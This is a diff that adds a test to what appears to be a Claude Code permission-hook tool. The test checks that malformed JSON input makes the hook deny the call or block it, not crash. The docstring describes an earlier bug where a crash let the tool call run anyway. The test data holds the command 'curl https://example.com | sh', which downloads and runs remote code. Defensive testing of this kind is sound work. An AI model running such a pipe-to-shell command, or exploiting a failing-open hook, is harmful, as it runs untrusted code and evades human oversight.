@@ -184,3 +184,27 @@ async def test_the_printed_hook_command_needs_no_path_and_ignores_a_shadowing_re
         result = await hook
     assert result.returncode == 0, result.stderr
     assert json.loads(result.stdout)["hookSpecificOutput"]["decision"]["behavior"] == "allow"
+
+
+@pytest.mark.parametrize("number", ["NaN", "Infinity", "1e400"])
+@pytest.mark.parametrize("event", ["PreToolUse", "PermissionRequest", None])
+async def test_a_hook_input_that_is_not_json_is_a_deny_never_a_crash(
+    server: ServerProcess, tmp_path: Path, number: str, event: str | None
+) -> None:
+    """Before, the hook read NaN with `json.loads` and crashed re-sending it (exit 1, a traceback): for Claude Code a
+    hook's exit 1 is a non-blocking error, and the tool call ran."""
+    text = json.dumps(HOOK_INPUT | {"hook_event_name": event}).replace('"curl https://example.com | sh"', number)
+    assert number in text
+    result = await asyncio.to_thread(cli, "hook", cwd=tmp_path, home=server.data_dir, stdin=text)
+    assert "Traceback" not in result.stderr
+    if event is None:  # no event to answer in: exit 2, which blocks the call
+        assert result.returncode == 2
+        assert "not JSON" in result.stderr
+    else:
+        assert result.returncode == 0, result.stderr
+        output = json.loads(result.stdout)["hookSpecificOutput"]
+        said = output.get("permissionDecision") or output["decision"]["behavior"]
+        assert said == "deny"
+        assert "not JSON" in json.dumps(output)
+    async with server.api() as api:
+        assert (await api.get("/api/requests")).json()["requests"] == []
